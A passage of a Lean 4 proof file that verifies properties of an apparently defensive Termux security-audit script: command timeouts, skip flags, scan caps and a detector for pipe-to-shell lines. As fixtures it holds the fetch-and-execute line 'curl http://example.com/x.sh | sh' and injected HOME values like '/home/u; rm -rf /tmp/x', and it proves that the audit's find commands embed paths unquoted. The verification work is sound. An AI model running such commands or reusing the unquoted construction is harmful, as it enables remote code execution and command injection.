      (f ++ ":" ++ toString n ++ ": " ++ "curl http://example.com/x.sh | sh")
        ∈ (scan_startup_for_pipe_feedback env).2)
    ∧ (env.pathExists f = true → env.readText f = some text →
        (∀ l ∈ splitlines text, lineMatches l = false) → perFileHits env f = [])
    ∧ (env.readText f = none → perFileHits env f = []) := by
  refine ⟨?_, ?_, ?_⟩
  · intro hf hex hrd hn hline
    have hm : lineMatches "curl http://example.com/x.sh | sh" = true := by decide
    have htrim : pyStrip "curl http://example.com/x.sh | sh"
        = "curl http://example.com/x.sh | sh" := by decide
    have h := perFileHits_mem hex hrd hn hline hm
    rw [htrim] at h
    exact scan_mem hf h
  · intro hex hrd hnone
    have hfil : ((splitlines text).enumFrom 1).filter (fun pr => lineMatches pr.2) = [] := by
      rw [List.filter_eq_nil_iff]
      rw [List.forall_mem_enumFrom]
      intro i hi
      simp [hnone _ (List.getElem_mem hi)]
    simp [perFileHits, hex, hrd, hfil]
  · intro hrd
    by_cases hex : env.pathExists f <;> simp [perFileHits, hex, hrd]

/-- The environment used to witness C5: only `~/.bashrc` exists, holding a
comment line and then the curl-pipe line at line 2. -/
def envC5 : Env :=
  { home := "/home/u", prefixDir := "/usr", pathVar := "",
    which := fun _ => false,
    shell := fun _ _ => CmdOutcome.failed "no shell",
    pathExists := fun p => p == "/home/u/.bashrc",
    isDir := fun _ => false,
    readText := fun p =>
      if p == "/home/u/.bashrc" then some "# comment\ncurl http://example.com/x.sh | sh\n"
      else none,
    dirEntries := fun _ => [],
    walkFiles := fun _ => [] }

/-- Witness for C5: the scan on `envC5` reports file, line number 2, and
the line text. -/
theorem startup_scan_reports_curl_line_witness :
    ("/home/u/.bashrc" ++ ":" ++ toString 2 ++ ": " ++ "curl http://example.com/x.sh | sh")
      ∈ (scan_startup_for_pipe_feedback envC5).2 :=
  (startup_scan_reports_curl_line envC5 "/home/u/.bashrc"
      "# comment\ncurl http://example.com/x.sh | sh\n" 2).1
    (by decide) (by decide) (by decide) (by decide) (by decide)

/-- C4: the two CLI flags gate exactly their own sections. With neither
flag the output is intro, packages, ports, setuid, startup scan, ssh keys,
world-writable scan, environment snapshot, recommendations; the ports-skip
flag removes exactly the listening-ports section, the setuid-skip flag
removes exactly the setuid section, and every other check appears in all
four combinations. -/
theorem skip_flags_control_sections (env : Env) :
    (auditMain env false false).lines
      = ["Termux Security Audit (defensive)", "Scan root: " ++ env.home]
        ++ (list_installed_packages env).2 ++ (list_listening_ports env).2
        ++ (find_setuid_files env).2 ++ (scan_startup_for_pipe_feedback env).2
        ++ list_ssh_keys env ++ (find_world_writable_files env 100).2
        ++ quick_checks env ++ recsLines
    ∧ (auditMain env true false).lines
      = ["Termux Security Audit (defensive)", "Scan root: " ++ env.home]
        ++ (list_installed_packages env).2
        ++ (find_setuid_files env).2 ++ (scan_startup_for_pipe_feedback env).2
        ++ list_ssh_keys env ++ (find_world_writable_files env 100).2
        ++ quick_checks env ++ recsLines
    ∧ (auditMain env false true).lines
      = ["Termux Security Audit (defensive)", "Scan root: " ++ env.home]
        ++ (list_installed_packages env).2 ++ (list_listening_ports env).2
        ++ (scan_startup_for_pipe_feedback env).2
        ++ list_ssh_keys env ++ (find_world_writable_files env 100).2
        ++ quick_checks env ++ recsLines
    ∧ (auditMain env true true).lines
      = ["Termux Security Audit (defensive)", "Scan root: " ++ env.home]
        ++ (list_installed_packages env).2
        ++ (scan_startup_for_pipe_feedback env).2
        ++ list_ssh_keys env ++ (find_world_writable_files env 100).2
        ++ quick_checks env ++ recsLines := by
  refine ⟨?_, ?_, ?_, ?_⟩ <;> simp [auditMain]

/-!
Helper lemmas about the invocations the audit makes.
-/

/-- Every invocation `tryTool` makes is the given command at the given
timeout. -/
lemma mem_tryTool_calls {env : Env} {tool cmd : String} {t : Nat} {inv : Invocation}
    (h : inv ∈ (tryTool env tool cmd t).1) : inv = { cmd := cmd, timeoutSec := t } := by
  by_cases hw : env.which tool
  · simpa [tryTool, hw] using h
  · simp [tryTool, hw] at h

/-- Every invocation of the package check has timeout 8. -/
lemma pkg_calls_timeout {env : Env} {inv : Invocation}
    (h : inv ∈ (list_installed_packages env).1) : inv.timeoutSec = 8 := by
  rcases hc1 : (tryTool env "pkg" "pkg list-installed" 8).2 with _ | out
  · rcases hc2 : (tryTool env "dpkg" "dpkg -l" 8).2 with _ | out2
    · simp only [list_installed_packages, hc1, hc2] at h
      rcases List.mem_append.1 h with h' | h' <;> rw [mem_tryTool_calls h']
    · simp only [list_installed_packages, hc1, hc2] at h
      rcases List.mem_append.1 h with h' | h' <;> rw [mem_tryTool_calls h']
  · simp only [list_installed_packages, hc1] at h
    rw [mem_tryTool_calls h]

/-- Every invocation of the ports check has timeout 8. -/
lemma ports_calls_timeout {env : Env} {inv : Invocation}
    (h : inv ∈ (list_listening_ports env).1) : inv.timeoutSec = 8 := by
  rcases hc1 : (tryTool env "ss" "ss -ltn" 8).2 with _ | out
  · rcases hc2 : (tryTool env "netstat" "netstat -ltn" 8).2 with _ | out2
    · simp only [list_listening_ports, hc1, hc2] at h
      rcases List.mem_append.1 h with h' | h' <;> rw [mem_tryTool_calls h']
    · simp only [list_listening_ports, hc1, hc2] at h
      rcases List.mem_append.1 h with h' | h' <;> rw [mem_tryTool_calls h']
  · simp only [list_listening_ports, hc1] at h
    rw [mem_tryTool_calls h]

/-- Every invocation of one setuid candidate step has timeout 8. -/
lemma setuidStep_calls_timeout {env : Env} {p : String} {inv : Invocation}
    (h : inv ∈ (setuidStep env p).1) : inv.timeoutSec = 8 := by
  by_cases hw : env.which "find"
  · simp [setuidStep, hw] at h
    rw [h]
  · simp [setuidStep, hw] at h

/-- Every invocation of the setuid loop has timeout 8. -/
lemma setuidLoop_calls_timeout {env : Env} {inv : Invocation} :
    ∀ (ps seen : List String), inv ∈ (setuidLoop env seen ps).1 → inv.timeoutSec = 8 := by
  intro ps
  induction ps with
  | nil => intro seen h; simp [setuidLoop] at h
  | cons p rest ih =>
    intro seen h
    by_cases hc : env.pathExists p && !(seen.contains p)
    · simp only [setuidLoop, hc, if_true] at h
      rcases List.mem_append.1 h with h' | h'
      · exact setuidStep_calls_timeout h'
      · exact ih _ h'
    · simp only [setuidLoop, hc, if_false] at h
      exact ih _ h

/-- Every invocation of the world-writable check is the built `find`
command at timeout 20. -/
lemma ww_calls {env : Env} {limit : Nat} {inv : Invocation}
    (h : inv ∈ (find_world_writable_files env limit).1) :
    inv = { cmd := wwFindCmd env.home limit, timeoutSec := 20 } := by
  by_cases hw : env.which "find"
  · by_cases hr : (runCmd env (wwFindCmd env.home limit) 20).2.1 = ""
    · simpa [find_world_writable_files, hw, hr] using h
    · simpa [find_world_writable_files, hw, hr] using h
  · simp [find_world_writable_files, hw] at h

/-- The audit always reaches the closing recommendations block: whatever the
environment and flags, the output is some prefix followed by `recsLines`. -/
lemma recsLines_suffix (env : Env) (noPorts noSetuid : Bool) :
    ∃ pre, (auditMain env noPorts noSetuid).lines = pre ++ recsLines := by
  refine ⟨["Termux Security Audit (defensive)", "Scan root: " ++ env.home]
    ++ (list_installed_packages env).2
    ++ (if noPorts then ([], []) else list_listening_ports env).2
    ++ (if noSetuid then ([], []) else find_setuid_files env).2
    ++ (scan_startup_for_pipe_feedback env).2 ++ list_ssh_keys env
    ++ (find_world_writable_files env 100).2 ++ quick_checks env, ?_⟩
  simp [auditMain]

/-- C3: every external invocation is bounded by a timeout — 8 seconds
everywhere except the world-writable `find` pipeline, which runs at 20 —
and for every outcome the helper returns an (exit code, stdout, stderr)
triple instead of raising: a completed process yields its code and stripped
streams, an exception (timeout or spawn failure) yields `(1, "", msg)`, a
tool whose command fails is treated as unavailable by its check
(`tryTool` yields no output), and the run always continues to the final
recommendations block. -/
theorem external_commands_bounded_and_caught :
    (∀ (env : Env) (cmd : String) (t : Nat) (msg : String),
        env.shell cmd t = CmdOutcome.failed msg → runCmd env cmd t = (1, "", msg))
    ∧ (∀ (env : Env) (cmd : String) (t : Nat) (rc : Int) (out err : String),
        env.shell cmd t = CmdOutcome.completed rc out err →
        runCmd env cmd t = (rc, pyStrip out, pyStrip err))
    ∧ (∀ (env : Env) (tool cmd : String) (t : Nat) (msg : String),
        env.which tool = true → env.shell cmd t = CmdOutcome.failed msg →
        tryTool env tool cmd t = ([{ cmd := cmd, timeoutSec := t }], none))
    ∧ (∀ (env : Env) (noPorts noSetuid : Bool) (inv : Invocation),
        inv ∈ (auditMain env noPorts noSetuid).calls →
        inv.timeoutSec = 8
          ∨ (inv.timeoutSec = 20 ∧ inv.cmd = wwFindCmd env.home 100))
    ∧ (∀ (env : Env) (noPorts noSetuid : Bool),
        ∃ pre, (auditMain env noPorts noSetuid).lines = pre ++ recsLines) := by
  refine ⟨?_, ?_, ?_, ?_, recsLines_suffix⟩
  · intro env cmd t msg h; simp [runCmd, h]
  · intro env cmd t rc out err h; simp [runCmd, h]
  · intro env tool cmd t msg hw h; simp [tryTool, hw, runCmd, h]
  · intro env noPorts noSetuid inv h
    simp only [auditMain] at h
    rcases List.mem_append.1 h with h | h
    rcases List.mem_append.1 h with h | h
    rcases List.mem_append.1 h with h | h
    rcases List.mem_append.1 h with h | h
    · exact Or.inl (pkg_calls_timeout h)
    · cases noPorts with
      | false => exact Or.inl (ports_calls_timeout h)
      | true => simp at h
    · cases noSetuid with
      | false => exact Or.inl (setuidLoop_calls_timeout _ _ h)
      | true => simp at h
    · simp [scan_startup_for_pipe_feedback] at h
    · have := ww_calls h
      subst this
      exact Or.inr ⟨rfl, rfl⟩

/-- Environment for the C3 witness: only `find` is on `PATH`, only `HOME`
exists, and every shell invocation times out. -/
def envFailing : Env :=
  { home := "/h", prefixDir := "/u", pathVar := "",
    which := fun t => t == "find",
    shell := fun _ _ => CmdOutcome.failed "timed out after 8s",
    pathExists := fun p => p == "/h",
    isDir := fun _ => false,
    readText := fun _ => none,
    dirEntries := fun _ => [],
    walkFiles := fun _ => [] }

/-- Witness for C3: a failing shell yields the error triple, a failing tool
is reported unavailable, and the world-writable invocation the audit makes
on `envFailing` is the 20-second `find` pipeline. -/
theorem external_commands_bounded_and_caught_witness :
    runCmd envFailing "ss -ltn" 8 = (1, "", "timed out after 8s")
    ∧ tryTool envFailing "find" "find /h" 8
        = ([{ cmd := "find /h", timeoutSec := 8 }], none)
    ∧ ((Invocation.mk (wwFindCmd "/h" 100) 20).timeoutSec = 8
        ∨ ((Invocation.mk (wwFindCmd "/h" 100) 20).timeoutSec = 20
            ∧ (Invocation.mk (wwFindCmd "/h" 100) 20).cmd = wwFindCmd envFailing.home 100)) :=
  ⟨external_commands_bounded_and_caught.1 envFailing "ss -ltn" 8 "timed out after 8s" rfl,
   external_commands_bounded_and_caught.2.2.1 envFailing "find" "find /h" 8
     "timed out after 8s" rfl rfl,
   external_commands_bounded_and_caught.2.2.2.1 envFailing false false
     (Invocation.mk (wwFindCmd "/h" 100) 20) (by decide)⟩

/-- Without `find` on `PATH`, the setuid check makes no external calls. -/
lemma setuidLoop_no_find_calls {env : Env} (hW : env.which "find" = false) :
    ∀ (ps seen : List String), (setuidLoop env seen ps).1 = [] := by
  intro ps
  induction ps with
  | nil => intro seen; simp [setuidLoop]
  | cons p rest ih =>
    intro seen
    simp only [setuidLoop]
    split
    · simp [setuidStep, hW, ih]
    · exact ih seen

/-- The ssh-keys section always starts with its header. -/
lemma ssh_header_mem (env : Env) : "\n== SSH keys in ~/.ssh ==" ∈ list_ssh_keys env := by
  unfold list_ssh_keys
  by_cases h1 : env.pathExists (env.home ++ "/.ssh") && env.isDir (env.home ++ "/.ssh")
  · simp only [h1, if_true]
    by_cases h2 : sortStrings (env.dirEntries (env.home ++ "/.ssh")) = [] <;>
      simp [h2]
  · simp [h1]

/-- The environment of the C2 counterexample and witness: no external tool
is available, only the home directory exists, every walk is empty. -/
def envNoTools : Env :=
  { home := "/home/u", prefixDir := "/usr", pathVar := "/bin:/usr/bin",
    which := fun _ => false,
    shell := fun _ _ => CmdOutcome.failed "tool not run",
    pathExists := fun p => p == "/home/u",
    isDir := fun _ => false,
    readText := fun _ => none,
    dirEntries := fun _ => [],
    walkFiles := fun _ => [] }

/-- Counterexample to C2 as stated: on a host with none of the external
tools, the setuid check — which is affected by the missing `find` (it
switches to its directory-walk fallback) — prints no absence notice at
all: its whole section output is exactly the bare header. -/
theorem setuid_check_prints_no_absence_notice :
    envNoTools.which "find" = false
    ∧ (find_setuid_files envNoTools).2 = ["\n== setuid files under common prefixes =="] := by
  refine ⟨rfl, by decide⟩

/-- C2 (amended): on a host where none of the external tools are present
the audit is a total function that runs every check: it makes no external
invocation, prints the package-listing and listening-ports absence
notices, prints every section header (the setuid and world-writable checks
silently fall back to in-process walks, the setuid section possibly being
only its header), ends with the fixed recommendations block, and exits
with status 0. -/
theorem audit_without_tools_completes (env : Env)
    (hW : ∀ t, env.which t = false) :
    (auditMain env false false).exitCode = 0
    ∧ (auditMain env false false).calls = []
    ∧ "Could not list packages. \x27pkg\x27 or \x27dpkg\x27 not found in PATH.\n"
        ∈ (auditMain env false false).lines
    ∧ "Neither \x27ss\x27 nor \x27netstat\x27 found. Skipping port check.\n"
        ∈ (auditMain env false false).lines
    ∧ "== Installed packages ==" ∈ (auditMain env false false).lines
    ∧ "\n== Listening TCP ports ==" ∈ (auditMain env false false).lines
    ∧ "\n== setuid files under common prefixes ==" ∈ (auditMain env false false).lines
    ∧ "\n== Suspicious shell startup lines (looking for \x27curl|wget ... | sh\x27) =="
        ∈ (auditMain env false false).lines
    ∧ "\n== SSH keys in ~/.ssh ==" ∈ (auditMain env false false).lines
    ∧ "\n== World-writable files under HOME (may be insecure) =="
        ∈ (auditMain env false false).lines
    ∧ "\n== Environment snapshot ==" ∈ (auditMain env false false).lines
    ∧ ∃ pre, (auditMain env false false).lines = pre ++ recsLines := by
  have hpk : list_installed_packages env
      = ([], ["== Installed packages ==",
              "Could not list packages. \x27pkg\x27 or \x27dpkg\x27 not found in PATH.\n"]) := by
    simp [list_installed_packages, tryTool, hW]
  have hpo : list_listening_ports env
      = ([], ["\n== Listening TCP ports ==",
              "Neither \x27ss\x27 nor \x27netstat\x27 found. Skipping port check.\n"]) := by
    simp [list_listening_ports, tryTool, hW]
  have hsu : (setuidLoop env [] (setuidCandidates env)).1 = [] :=
    setuidLoop_no_find_calls (hW "find") _ _
  have hww : find_world_writable_files env 100
      = ([], ["\n== World-writable files under HOME (may be insecure) ==",
              if wwFound env 100 = [] then "No world-writable files found under HOME."
              else joinLines (wwFound env 100)]) := by
    simp [find_world_writable_files, hW]
  refine ⟨rfl, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_, recsLines_suffix env false false⟩
  · simp [auditMain, hpk, hpo, hww, find_setuid_files, hsu, scan_startup_for_pipe_feedback]
  · simp [auditMain, hpk, hpo, hww]
  · simp [auditMain, hpk, hpo, hww]
  · simp [auditMain, hpk, hpo, hww]
  · simp [auditMain, hpk, hpo, hww]
  · simp [auditMain, hpk, hpo, hww, find_setuid_files]
  · simp [auditMain, hpk, hpo, hww, scan_startup_for_pipe_feedback]
  · simp [auditMain, hpk, hpo, hww, ssh_header_mem env]
  · simp [auditMain, hpk, hpo, hww]
  · simp [auditMain, hpk, hpo, hww, quick_checks]

/-- Witness for C2 (amended) at the concrete tool-less host. -/
theorem audit_without_tools_completes_witness :
    (auditMain envNoTools false false).exitCode = 0
    ∧ (auditMain envNoTools false false).calls = []
    ∧ "== Installed packages ==" ∈ (auditMain envNoTools false false).lines :=
  ⟨(audit_without_tools_completes envNoTools (fun _ => rfl)).1,
   (audit_without_tools_completes envNoTools (fun _ => rfl)).2.1,
   (audit_without_tools_completes envNoTools (fun _ => rfl)).2.2.2.2.1⟩

/-- The collection loop never grows past `limit` once below it. -/
lemma walkLoop_length_le (p : FileEntry → Bool) (limit : Nat) :
    ∀ (entries : List FileEntry) (found : List String),
      found.length < limit → (walkLoop p limit entries found).length ≤ limit := by
  intro entries
  induction entries with
  | nil => intro found h; simp [walkLoop]; exact Nat.le_of_lt h
  | cons e rest ih =>
    intro found h
    by_cases hp : p e
    · simp only [walkLoop, hp, if_true]
      by_cases hl : limit ≤ (found ++ [e.path]).length
      · simp only [hl, if_true]
        simpa using h
      · simp only [hl, if_false]
        exact ih _ (Nat.lt_of_not_le hl)
    · simp only [walkLoop, hp, if_false]
      exact ih _ h

/-- Modelled from the spec: the `head -n N` stage the built `find`
pipelines end with keeps only the first `N` lines of its input; the
external capping of both scans is delegated to it. -/
def headTake (limit : Nat) (s : String) : List String := (splitlines s).take limit

/-- C6: the capped scans never report more than their configured limit.
The world-writable in-process fallback collects at most `limit` entries
(100 in the call `main` makes), the setuid in-process fallback collects at
most 50 entries per candidate directory, the external path of both scans
pipes through `head -n 50` / `head -n limit` whose model keeps at most
that many lines, and an entry whose `stat` raises is skipped silently by
both fallbacks. -/
theorem scans_capped :
    (∀ (env : Env) (limit : Nat), 1 ≤ limit → (wwFound env limit).length ≤ limit)
    ∧ (∀ (env : Env) (p : String), (setuidFound env p).length ≤ 50)
    ∧ (∀ p : String, setuidFindCmd p
        = "find " ++ p ++ " -xdev -type f -perm -4000 -ls 2>/dev/null | head -n 50")
    ∧ (∀ (home : String) (limit : Nat), wwFindCmd home limit
        = "find " ++ home
          ++ (" -xdev -type f -perm -002 -print 2>/dev/null | head -n " ++ toString limit))
    ∧ (∀ (limit : Nat) (s : String), (headTake limit s).length ≤ limit)
    ∧ (∀ (limit : Nat) (e : FileEntry) (rest : List FileEntry) (found : List String),
        e.statOk = false →
        walkLoop setuidPred limit (e :: rest) found = walkLoop setuidPred limit rest found
        ∧ walkLoop wwPred limit (e :: rest) found = walkLoop wwPred limit rest found) := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_⟩
  · intro env limit h
    exact walkLoop_length_le wwPred limit _ [] (by simp; exact h)
  · intro env p
    exact walkLoop_length_le setuidPred 50 _ [] (by simp)
  · intro p; simp [setuidFindCmd, String.append_assoc]
  · intro home limit; simp [wwFindCmd, String.append_assoc]
  · intro limit s
    simp only [headTake]
    exact List.length_take_le limit (splitlines s)
  · intro limit e rest found hs
    constructor <;> simp [walkLoop, setuidPred, wwPred, hs]

/-- A walk sequence of 1000 world-writable regular files. -/
def thousandFiles : List FileEntry :=
  (List.range 1000).map fun i =>
    { path := "/home/u/f" ++ toString i, isFile := true, statOk := true, mode := 438 }

/-- A tool-less host whose home directory holds 1000 world-writable files. -/
def envThousand : Env :=
  { home := "/home/u", prefixDir := "/usr", pathVar := "",
    which := fun _ => false,
    shell := fun _ _ => CmdOutcome.failed "tool not run",
    pathExists := fun p => p == "/home/u",
    isDir := fun _ => false,
    readText := fun _ => none,
    dirEntries := fun _ => [],
    walkFiles := fun _ => thousandFiles }

/-- Witness for C6: on a filesystem with 1000 world-writable files the
fallback scan reports at most 100 entries, and an unreadable entry is
skipped. -/
theorem scans_capped_witness :
    (wwFound envThousand 100).length ≤ 100
    ∧ walkLoop wwPred 100 [{ path := "/home/u/x", isFile := true, statOk := false, mode := 438 }] []
        = walkLoop wwPred 100 [] [] :=
  ⟨scans_capped.1 envThousand 100 (by decide),
   (scans_capped.2.2.2.2.2 100
      { path := "/home/u/x", isFile := true, statOk := false, mode := 438 } [] [] rfl).2⟩

/-- Count of `;` characters, the shell statement separator: with no quoting
in the command string, each one starts a new top-level shell statement. -/
def countSemis (s : String) : Nat := s.data.count ';'

/-- C9: both `find` commands embed the configured path value verbatim and
unquoted between a fixed prefix and a fixed suffix, so any two distinct
path values — in particular two spellings of the same directory differing
in shell metacharacters — yield distinct command strings; and a `HOME`
value containing `;` puts an unquoted statement separator into the
executed string (the clean default `HOME` contains none), so the shell no
longer runs a single `find` over that literal path. -/
theorem find_commands_embed_path_verbatim :
    (∀ p : String, (setuidFindCmd p).data
        = "find ".data ++ p.data
          ++ " -xdev -type f -perm -4000 -ls 2>/dev/null | head -n 50".data)
    ∧ (∀ (home : String) (limit : Nat), (wwFindCmd home limit).data
        = "find ".data ++ home.data
          ++ (" -xdev -type f -perm -002 -print 2>/dev/null | head -n ".data
              ++ (toString limit).data))
    ∧ (∀ p q : String, p ≠ q → setuidFindCmd p ≠ setuidFindCmd q)
    ∧ (∀ p q : String, p ≠ q → wwFindCmd p 100 ≠ wwFindCmd q 100)
    ∧ countSemis (wwFindCmd "/data/data/com.termux/files/home" 100) = 0
    ∧ countSemis (wwFindCmd "/home/u; rm -rf /tmp/x" 100) = 1 := by
  have hdata : ∀ a b : String, (a ++ b).data = a.data ++ b.data := String.data_append
  refine ⟨?_, ?_, ?_, ?_, by decide, by decide⟩
  · intro p; simp [setuidFindCmd, hdata, List.append_assoc]
  · intro home limit; simp [wwFindCmd, hdata, List.append_assoc]
  · intro p q hne heq
    apply hne
    have h2 := congrArg String.data heq
    simp only [setuidFindCmd, hdata, List.append_assoc] at h2
    exact String.ext (List.append_cancel_right (List.append_cancel_left h2))
  · intro p q hne heq
    apply hne
    have h2 := congrArg String.data heq
    simp only [wwFindCmd, hdata, List.append_assoc] at h2
    exact String.ext (List.append_cancel_right (List.append_cancel_left h2))

/-- Witness for C9: two spellings that differ only by an injected
metacharacter sequence produce different command strings. -/
theorem find_commands_embed_path_verbatim_witness :
    setuidFindCmd "/home/u" ≠ setuidFindCmd "/home/u; id" :=
  find_commands_embed_path_verbatim.2.2.1 "/home/u" "/home/u; id" (by decide)
